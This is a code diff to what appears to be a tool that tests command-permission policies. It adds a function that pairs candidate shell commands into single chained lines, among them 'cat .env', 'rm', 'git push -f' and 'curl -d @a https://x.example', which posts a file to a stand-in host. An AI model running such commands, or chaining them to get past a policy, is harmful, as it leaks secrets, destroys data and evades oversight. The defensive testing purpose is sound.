@@ -94,13 +94,43 @@ export function candidatesOf(policies: readonly CompiledPolicy[], recorded: read
       .map(each => withAbout(each, about)),
   );
   const facts = factSets([...found.facts]);
-  const all = [...recorded, ...base, ...within];
+  const all = [...recorded, ...base, ...(policies.some(chooses) ? combined(found) : []), ...within];
   const known = facts.flatMap(names =>
     all.slice(0, 400).map(each => ({ ...each, words: `${each.words} (knowing ${names.join(', ')})`, facts: names })),
   );
   const times = Math.max(0, ...[...found.counts].filter(count => count < MOST_TIMES)) + 1;
   const repeated = times > 1 ? repeatable(base, found).map(each => ({ ...each, times })) : [];
   return [...all, ...known, ...repeated].slice(0, MOST);
+}
+
+/** Whether something in a policy rests on some of several nodes: what one command does may then not be enough to see it. */
+function chooses({ policy }: CompiledPolicy): boolean {
+  const among = ({ kind, children = [] }: NodeData): boolean =>
+    (children.length > 1 && kind !== 'all' && kind !== 'when') || children.some(among);
+  return among(policy);
+}
+
+const MOST_COMBINED = 24;
+
+/** Two commands in one line, so that one action has the effects of both. */
+function combined({ paths, hosts, commands }: Found): readonly Candidate[] {
+  const own = [
+    ...[...commands].slice(0, 6),
+    ...[...hosts].slice(0, 4).map(host => `curl https://${host}/`),
+    ...[...paths].slice(0, 12).flatMap((path, index) => (index % 2 === 0 ? [`cat ${path}`, `rm ${path}`] : [])),
+  ];
+  const usual = [
+    'cat a',
+    'rm a',
+    'git push',
+    'git push -f',
+    'cat .env',
+    'curl -d @a https://x.example',
+    'sudo ls',
+    'npm publish',
+  ];
+  const chosen = [...new Set([...own, ...usual])].slice(0, MOST_COMBINED);
+  return chosen.flatMap((first, index) => chosen.slice(index + 1).map(second => bash(`${first}; ${second}`)));
 }
 
 function repeatable(base: readonly Candidate[], { tools }: Found): readonly Candidate[] {
